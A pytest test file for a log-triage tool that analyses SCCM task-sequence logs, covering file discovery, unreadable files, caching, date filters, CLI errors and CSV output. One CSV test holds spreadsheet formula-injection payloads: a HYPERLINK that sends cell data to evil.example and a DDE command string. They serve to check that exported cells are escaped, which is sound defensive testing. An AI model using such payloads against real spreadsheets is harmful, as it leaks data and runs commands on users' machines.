"""Fleet triage file handling: finding logs, unreadable files, the cache, --since, CLI errors."""

from __future__ import annotations

import datetime as dt
import os
import random
import re
from datetime import datetime
from pathlib import Path

import pytest

from kb.triage import TriageOptions, triage, triage_file
from kb.triage.walk import find_logs, guid_from_path, is_log_name
from kb.triage.work import cluster_template
from tests.fleetgen import NOVEL, encode, generate_fleet, render_log

GUID = "0A1B2C3D-4E5F-6789-ABCD-EF0123456789"


def write_log(path: Path, kind=None, seed: int = 1, day: int = 1) -> str:
    """Write one small UTF-8-BOM log; return its text."""
    text = render_log(random.Random(seed), kind, "PC-1", datetime(2010, 3, day, 9), 6_000)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(encode(text, "utf-8-sig"))
    return text


@pytest.mark.parametrize(
    "name, wanted",
    [
        ("smsts.log", True),
        ("SMSTS.LOG", True),
        ("smsts-20100215-101112.log", True),
        (f"{GUID}-smsts.log", True),
        (f"{{{GUID}}}-smsts.log", True),
        ("smsts.lo_", False),
        ("execmgr.log", False),
        ("smsts.log.txt", False),
    ],
)
def test_log_names(name, wanted):
    assert is_log_name(name) is wanted


@pytest.mark.parametrize(
    "path, guid",
    [
        (f"/s/{GUID}-smsts.log", GUID),
        (f"/s/{{{GUID.lower()}}}-smsts.log", GUID),
        (f"/s/{GUID}/smsts-20100215-101112.log", GUID),
        ("/s/PC-1/smsts.log", None),
        (f"/s/{GUID}x/smsts.log", None),
    ],
)
def test_guid_from_path(path, guid):
    assert guid_from_path(path) == guid


def test_find_logs_walks_folders_and_globs_in_sorted_order(tmp_path):
    for rel in ["b/smsts.log", "a/x/smsts-20100215-101112.log", f"{GUID}-smsts.log", "a/other.log"]:
        (tmp_path / rel).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / rel).write_text("x")
    found = find_logs([str(tmp_path)])
    assert [os.path.relpath(f, tmp_path) for f in found.files] == sorted(
        ["b/smsts.log", "a/x/smsts-20100215-101112.log", f"{GUID}-smsts.log"]
    )
    assert find_logs([str(tmp_path / "a" / "**" / "*.log")]).files == sorted(
        str(tmp_path / p) for p in ["a/other.log", "a/x/smsts-20100215-101112.log"]
    )


def test_unreadable_files_are_listed_with_a_reason_and_the_run_goes_on(tmp_path):
    share = tmp_path / "share"
    write_log(share / "good" / "smsts.log", NOVEL[0])
    (share / "empty").mkdir()
    (share / "empty" / "smsts.log").write_bytes(b"")
    (share / "binary").mkdir()
    (share / "binary" / "smsts.log").write_bytes(bytes(range(256)) * 40)
    text = write_log(share / "cut" / "smsts.log")
    cut = text.rfind("<![LOG[", 0, len(text) // 2) + 60
    (share / "cut" / "smsts.log").write_bytes(encode(text[:cut], "utf-8-sig"))
    (share / "folder" / "smsts.log").mkdir(parents=True)
    (share / "plain" / "smsts.log").parent.mkdir()
    (share / "plain" / "smsts.log").write_text("just some text\nnothing to see\n")
    limit = (share / "good" / "smsts.log").stat().st_size + 1024
    (share / "huge").mkdir()
    (share / "huge" / "smsts.log").write_bytes(b"x" * (limit + 1))

    result = triage([str(share)], TriageOptions(workers=1, max_bytes=limit))
    reasons = {Path(u["file"]).parent.name: u["reason"] for u in result.report["unreadable"]}
    assert reasons["empty"] == "empty file"
    assert reasons["binary"] == "binary file, not a text log"
    assert reasons["cut"].startswith("truncated: the last record (line ")
    assert reasons["folder"] == "is a directory"
    assert reasons["plain"] == "not a task sequence log (no CMTrace records)"
    assert (
        reasons["huge"]
        == f"too large: {limit + 1:,} bytes (the limit is {limit:,} bytes; see --max-size)"
    )
    assert set(reasons) == {"empty", "binary", "cut", "folder", "plain", "huge"}
    assert result.report["analyzed"] == 1 and result.report["failed"] == 1


@pytest.mark.skipif(os.name != "posix" or os.geteuid() == 0, reason="root reads any file")
def test_a_file_without_permission_is_listed(tmp_path):
    path = tmp_path / "smsts.log"
    write_log(path)
    path.chmod(0)
    try:
        assert triage_file(str(path), None)["reason"] == "permission denied"
    finally:
        path.chmod(0o644)


def test_a_failure_before_the_cut_is_still_analyzed(tmp_path):
    path = tmp_path / "smsts.log"
    text = write_log(path, NOVEL[1])
    path.write_bytes(encode(text[: text.rfind("<![LOG[") + 30], "utf-8"))
    r = triage_file(str(path), None)
    assert (r["status"], r["failed"], r["truncated"]) == ("ok", True, True)


def test_utf16_log_without_bom_is_read(tmp_path):
    path = tmp_path / "smsts.log"
    text = render_log(random.Random(5), NOVEL[2], "PC-9", datetime(2010, 3, 3, 9), 5_000)
    path.write_bytes(text.encode("utf-16-le"))
    r = triage_file(str(path), None)
    assert (r["status"], r["failed"], r["failed_action"]) == ("ok", True, "Install Software")


def test_cache_reuses_unchanged_files_and_redoes_touched_ones(tmp_path):
    share = tmp_path / "share"
    generate_fleet(share, 12, seed=5, target_bytes=4_000)
    opts = TriageOptions(workers=1, cache_path=str(tmp_path / "out" / "cache.sqlite3"))
    first = triage([str(share)], opts)
    assert (first.analyzed, first.cached) == (12, 0)
    second = triage([str(share)], opts)
    assert (second.analyzed, second.cached) == (0, 12)
    assert second.report == first.report
    touched = Path(first.results[3]["file"])
    st = touched.stat()
    os.utime(touched, ns=(st.st_atime_ns, st.st_mtime_ns + 1_000_000_000))
    third = triage([str(share)], opts)
    assert (third.analyzed, third.cached) == (1, 11)


def test_cache_is_dropped_when_the_articles_change(tmp_path):
    import shutil

    from tests.conftest import ARTICLES

    articles = tmp_path / "articles"
    shutil.copytree(ARTICLES, articles)
    share = tmp_path / "share"
    generate_fleet(share, 4, seed=6, target_bytes=4_000)
    opts = TriageOptions(workers=1, articles_dir=str(articles), cache_path=str(tmp_path / "c.db"))
    assert triage([str(share)], opts).analyzed == 4
    page = articles / "ts-native-mode-crl.md"
    page.write_text(page.read_text().replace("## Cause\n", "## Cause\n\nEdited.\n", 1))
    assert triage([str(share)], opts).analyzed == 4


def test_a_corrupt_cache_file_is_replaced(tmp_path):
    share = tmp_path / "share"
    write_log(share / "smsts.log")
    cache = tmp_path / "c.db"
    cache.write_bytes(b"not a database at all" * 100)
    opts = TriageOptions(workers=1, cache_path=str(cache))
    assert triage([str(share)], opts).analyzed == 1
    assert triage([str(share)], opts).cached == 1


def test_since_keeps_logs_on_or_after_the_date(tmp_path):
    share = tmp_path / "share"
    for day in (1, 5, 9):
        write_log(share / f"d{day}" / "smsts.log", NOVEL[0], seed=day, day=day)
    undated = share / "undated" / "smsts.log"
    text = write_log(undated, NOVEL[0])
    undated.write_bytes(encode(re.sub(r'date="[^"]*"', 'date=""', text), "utf-8-sig"))
    old = dt.datetime(2010, 3, 2, 12).timestamp()
    os.utime(undated, (old, old))
    kept = triage([str(share)], TriageOptions(workers=1, since=dt.date(2010, 3, 5)))
    assert sorted(Path(r["file"]).parent.name for r in kept.results) == ["d5", "d9"]
    os.utime(undated, (old + 86400 * 5, old + 86400 * 5))
    kept = triage([str(share)], TriageOptions(workers=1, since=dt.date(2010, 3, 5)))
    assert sorted(Path(r["file"]).parent.name for r in kept.results) == ["d5", "d9", "undated"]
    assert kept.report["since"] == "2010-03-05"


def test_progress_goes_to_the_callback_and_nothing_is_printed(tmp_path, capsys):
    share = tmp_path / "share"
    generate_fleet(share, 6, seed=8, target_bytes=3_000)
    seen = []
    triage([str(share)], TriageOptions(workers=1), lambda done, total: seen.append((done, total)))
    assert seen[0] == (0, 6) and seen[-1] == (6, 6)
    assert [d for d, _ in seen] == sorted(d for d, _ in seen)
    assert capsys.readouterr() == ("", "")


@pytest.mark.parametrize(
    "message, template",
    [
        (
            "Cannot reach SMP dp-nyc-02.corp.contoso.com after 3 retries (0x80072EFD)",
            "cannot reach smp <*> after <*> retries (0x80072efd)",
        ),
        (
            "Cannot reach SMP DP7-BRANCH after 9 retries (0x80072EFD)",
            "cannot reach smp <*> after <*> retries (0x80072efd)",
        ),
        (
            "Failed to open \\\\SCCMDP01\\SMSPKGC$\\CEN00041 (0x80070005)",
            "failed to open \\\\<*>\\smspkgc$\\<*> (0x80070005)",
        ),
        ("Error downloading OSDResults.exe.config", "error downloading osdresults.exe.config"),
    ],
)
def test_cluster_templates_mask_servers_and_numbers_but_keep_codes(message, template):
    assert cluster_template(message) == template


@pytest.mark.parametrize(
    "args, message",
    [
        (["/no/such/share"], "kb: error: /no/such/share: no such file or folder"),
        (["/no/such/*.log"], "kb: error: /no/such/*.log: no file matches"),
        (
            ["{share}", "--articles", "/no/articles"],
            "kb: error: /no/articles: no such articles folder",
        ),
    ],
)
def test_cli_bad_input_is_one_line_and_exit_2(tmp_path, run, args, message):
    (tmp_path / "share").mkdir()
    res = run(
        "triage", *[a.format(share=tmp_path / "share") for a in args], "--out", str(tmp_path / "o")
    )
    assert (res.exit_code, res.stderr.strip()) == (2, message)


@pytest.mark.parametrize(
    "option", [["--since", "yesterday"], ["--format", "pdf"], ["--workers", "0"]]
)
def test_cli_bad_options_exit_2(tmp_path, run, option):
    assert run("triage", str(tmp_path), *option).exit_code == 2


def test_cli_no_logs_found_exits_1_with_an_empty_report(tmp_path, run):
    (tmp_path / "share").mkdir()
    res = run("triage", str(tmp_path / "share"), "--out", str(tmp_path / "o"), "--no-cache")
    assert res.exit_code == 1
    assert res.stderr.strip() == f"kb: no smsts*.log file found in {tmp_path / 'share'}"
    assert sorted(os.listdir(tmp_path / "o")) == ["triage.csv", "triage.html", "triage.json"]


def test_dask_missing_is_one_line_telling_what_to_install(tmp_path, run, monkeypatch):
    import sys

    write_log(tmp_path / "share" / "smsts.log")
    monkeypatch.setitem(sys.modules, "distributed", None)  # makes the import fail
    res = run("triage", str(tmp_path / "share"), "--dask", "local", "--out", str(tmp_path / "o"))
    assert (res.exit_code, res.stderr.strip()) == (
        2,
        "kb: error: --dask needs Dask distributed: pip install 'dask[distributed]' "
        "(or '.[dask]' from the kb source folder)",
    )


def test_csv_cells_never_start_a_formula_and_keep_one_line_per_machine():
    import csv
    import io

    from kb.triage.report_data import CSV_COLUMNS, csv_text

    machine = {c: "" for c in CSV_COLUMNS}
    machine.update(
        codes=["0x80070002"],
        files=["share/odd\nname.log"],
        root_error='=HYPERLINK("http://evil.example/?"&A1,"click")',
    )
    for column in CSV_COLUMNS:
        if column not in ("codes", "files", "root_error"):
            machine[column] = "+cmd|' /C calc'!A0"
            break
    text = csv_text({"machines": [machine]})
    assert len(text.splitlines()) == 2  # the header and one machine
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["root_error"] == "'" + machine["root_error"]
    assert row["files"] == "share/odd / name.log"
    assert all(not v.startswith(("=", "+", "-", "@")) for v in row.values())


def test_bad_input_leaves_no_out_folder_behind(tmp_path, run):
    res = run("triage", str(tmp_path / "missing"), "--out", str(tmp_path / "o"))
    assert res.exit_code == 2 and not (tmp_path / "o").exists()
    (tmp_path / "kept").mkdir()  # a folder that was there stays
    res = run("triage", str(tmp_path / "missing"), "--out", str(tmp_path / "kept"))
    assert res.exit_code == 2 and (tmp_path / "kept").is_dir()
